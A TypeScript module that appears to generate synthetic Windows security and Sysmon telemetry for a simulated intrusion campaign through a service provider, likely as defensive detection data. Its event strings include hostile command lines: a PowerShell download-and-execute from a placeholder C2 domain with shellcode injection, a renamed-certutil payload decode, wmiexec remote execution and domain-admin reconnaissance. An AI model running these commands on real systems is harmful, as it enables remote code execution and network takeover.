// Campaign stages, in through the provider: remote access, side-loading, C2, Exchange, tool ingress,
// wmiexec (campaign.md rows 1, 6, 15, 2, 5, 4).
import type { CampaignContext } from './campaign-context.js';
import {
  psScriptBlock,
  secLogon,
  secSpecialPrivileges,
  sysServiceInstalled,
  sysmonDns,
  sysmonFile,
  sysmonImageLoad,
  sysmonNetwork,
  sysmonFromCmd,
  sysmonProcess,
  CMD_EXE,
} from './events.js';

/** In through the provider: remote access, side-loading, C2, Exchange, tool ingress, wmiexec (rows 1, 6, 15, 2, 5, 4). */
export function entryStages(ctx: CampaignContext): void {
  const {
    rng,
    msp,
    jp,
    jump,
    jpFs,
    jpExchange,
    c2Domain,
    c2Ip,
    attackerIp,
    dayAt,
    stage,
    who,
    loaderDir,
    policytool,
    mspTech,
    jpTech,
  } = ctx;
  // Row 1: in through the provider's remote access, with a technician's valid account, at night.
  {
    const ev = stage(
      'initial-access',
      'Provider remote access with a stolen technician account',
      1,
      ['T1199', 'T1078'],
      msp,
    );
    const t = dayAt(0.06, 1);
    ev.push({
      host: jump,
      spec: secLogon(jump, t, {
        account: mspTech,
        logonType: 10,
        ip: attackerIp,
        workstation: 'DESKTOP-7G2K1QF',
        logonId: '0x7a1f3c',
      }),
    });
    ev.push({ host: jump, spec: secSpecialPrivileges(jump, t + 20, mspTech, '0x7a1f3c') });
  }
  // Row 6 + 15: DLL side-loading on the jump host (Ecipekac: policytool.exe + jli.dll), then C2.
  {
    const ev = stage(
      'dll-side-loading',
      'Ecipekac-style loader side-loaded by policytool.exe',
      6,
      ['T1574.001', 'T1553.002'],
      msp,
    );
    const t = dayAt(0.06, 2);
    const user = who(mspTech);
    ev.push({
      host: jump,
      spec: sysmonFile(jump, t, { image: 'C:\\Windows\\Explorer.EXE', target: policytool, user }),
    });
    ev.push({
      host: jump,
      spec: sysmonFile(jump, t + 2000, {
        image: 'C:\\Windows\\Explorer.EXE',
        target: `${loaderDir}\\jli.dll`,
        user,
      }),
    });
    ev.push({
      host: jump,
      spec: sysmonFromCmd(jump, t + 60_000, {
        image: policytool,
        commandLine: `"${policytool}"`,
        user,
        description: 'Policy Tool',
        company: 'Oracle Corporation',
        originalFileName: 'policytool.exe',
      }),
    });
    ev.push({
      host: jump,
      spec: sysmonImageLoad(jump, t + 60_500, {
        image: policytool,
        loaded: `${loaderDir}\\jli.dll`,
        user,
        hashes: 'MD5=BE53764063BB1D054D78F2BF08FB90F3',
        signature: 'Oracle America, Inc.',
      }),
    });
  }
  {
    const ev = stage(
      'command-and-control',
      'Implant beaconing to its C2 and a VNC server for hands-on access',
      15,
      ['T1071.001', 'T1219'],
      msp,
    );
    const user = who(mspTech);
    for (let i = 0; i < 4; i++) {
      const t = dayAt(0.06 + i * 0.15, 3);
      ev.push({ host: jump, spec: sysmonDns(jump, t, { image: policytool, query: c2Domain, result: c2Ip }) });
      ev.push({
        host: jump,
        spec: sysmonNetwork(jump, t + 400, {
          image: policytool,
          user,
          destinationIp: c2Ip,
          destinationPort: 443,
          destinationHostname: c2Domain,
        }),
      });
    }
    const vnc = 'C:\\ProgramData\\VNC\\winvnc.exe';
    const tv = dayAt(0.5, 2);
    ev.push({
      host: jpFs,
      spec: sysmonFromCmd(jpFs, tv, {
        image: vnc,
        commandLine: `"${vnc}" -install`,
        user: who(jpTech),
        originalFileName: 'WinVNC.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysServiceInstalled(jpFs, tv + 3000, {
        name: 'uvnc_service',
        path: `"${vnc}" -service`,
        sid: 'S-1-5-18',
      }),
    });
  }
  // Row 2: Exchange exploitation in the parent (w3wp spawning a shell).
  {
    const ev = stage('exchange-exploitation', 'Exchange worker process spawning a shell', 2, ['T1190'], jp);
    const t = dayAt(0.04 + rng.next() * 0.12, 16);
    const w3wp = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';
    const pool =
      'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeECPAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config"';
    ev.push({
      host: jpExchange,
      spec: sysmonProcess(jpExchange, t, {
        image: CMD_EXE,
        commandLine: 'cmd.exe /c whoami /all',
        parentImage: w3wp,
        parentCommandLine: pool,
        user: 'NT AUTHORITY\\SYSTEM',
        originalFileName: 'Cmd.Exe',
      }),
    });
    ev.push({
      host: jpExchange,
      spec: sysmonProcess(jpExchange, t + 40_000, {
        image: CMD_EXE,
        commandLine: 'cmd.exe /c net group "domain admins" /domain',
        parentImage: w3wp,
        parentCommandLine: pool,
        user: 'NT AUTHORITY\\SYSTEM',
        originalFileName: 'Cmd.Exe',
      }),
    });
  }
  // Row 5: tool ingress with a renamed certutil on the jump host.
  {
    const ev = stage(
      'tool-ingress',
      'Payload decoded with a renamed certutil',
      5,
      ['T1105', 'T1140', 'T1036.003'],
      msp,
    );
    const t = dayAt(0.22, 14);
    const cu = `${loaderDir}\\cu.exe`;
    ev.push({
      host: jump,
      spec: sysmonFromCmd(jump, t, {
        image: cu,
        commandLine: `${cu} -decode ${loaderDir}\\update.txt ${loaderDir}\\r.exe`,
        user: who(mspTech),
        originalFileName: 'CertUtil.exe',
      }),
    });
    ev.push({
      host: jump,
      spec: sysmonFile(jump, t + 1500, { image: cu, target: `${loaderDir}\\r.exe`, user: who(mspTech) }),
    });
  }
  // Row 4: execution through a modified wmiexec.vbs (t.vbs in C:\Recovery), PowerSploit, InstallUtil.
  {
    const ev = stage(
      'execution-wmiexec',
      "wmiexec.vbs (t.vbs) from C:\\Recovery into the parent's file server",
      4,
      ['T1047', 'T1059.001', 'T1059.003', 'T1218.004'],
      jp,
    );
    const t = dayAt(0.27, 10);
    const cscript = 'C:\\Windows\\System32\\cscript.exe';
    ev.push({
      host: jump,
      spec: sysmonFile(jump, t, { image: CMD_EXE, target: 'C:\\Recovery\\t.vbs', user: who(mspTech) }),
    });
    ev.push({
      host: jump,
      spec: sysmonFromCmd(jump, t + 30_000, {
        image: cscript,
        commandLine: `cscript.exe //nologo C:\\Recovery\\t.vbs /shell ${jpFs.name}`,
        user: who(mspTech),
        originalFileName: 'cscript.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: secLogon(jpFs, t + 31_000, {
        account: jpTech,
        logonType: 3,
        ip: jump.ip,
        workstation: jump.name,
        logonId: '0x9c2e11',
        authPackage: 'NTLM',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonProcess(jpFs, t + 32_000, {
        image: CMD_EXE,
        commandLine: `cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__${Math.floor(t / 1000)} 2>&1`,
        parentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
        parentCommandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
        user: who(jpTech),
        originalFileName: 'Cmd.Exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: psScriptBlock(
        jpFs,
        t + 90_000,
        `IEX (New-Object Net.WebClient).DownloadString('http://${c2Domain}/a'); Invoke-Shellcode -Shellcode $buf -ProcessID (Get-Process explorer).Id -Force`,
      ),
    });
    const iu = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe';
    ev.push({
      host: jpFs,
      spec: sysmonFromCmd(jpFs, t + 150_000, {
        image: iu,
        commandLine: `${iu} /logfile= /LogToConsole=false /U C:\\ProgramData\\Oracle\\Java\\ju.dll`,
        user: who(jpTech),
        originalFileName: 'InstallUtil.exe',
      }),
    });
  }
}
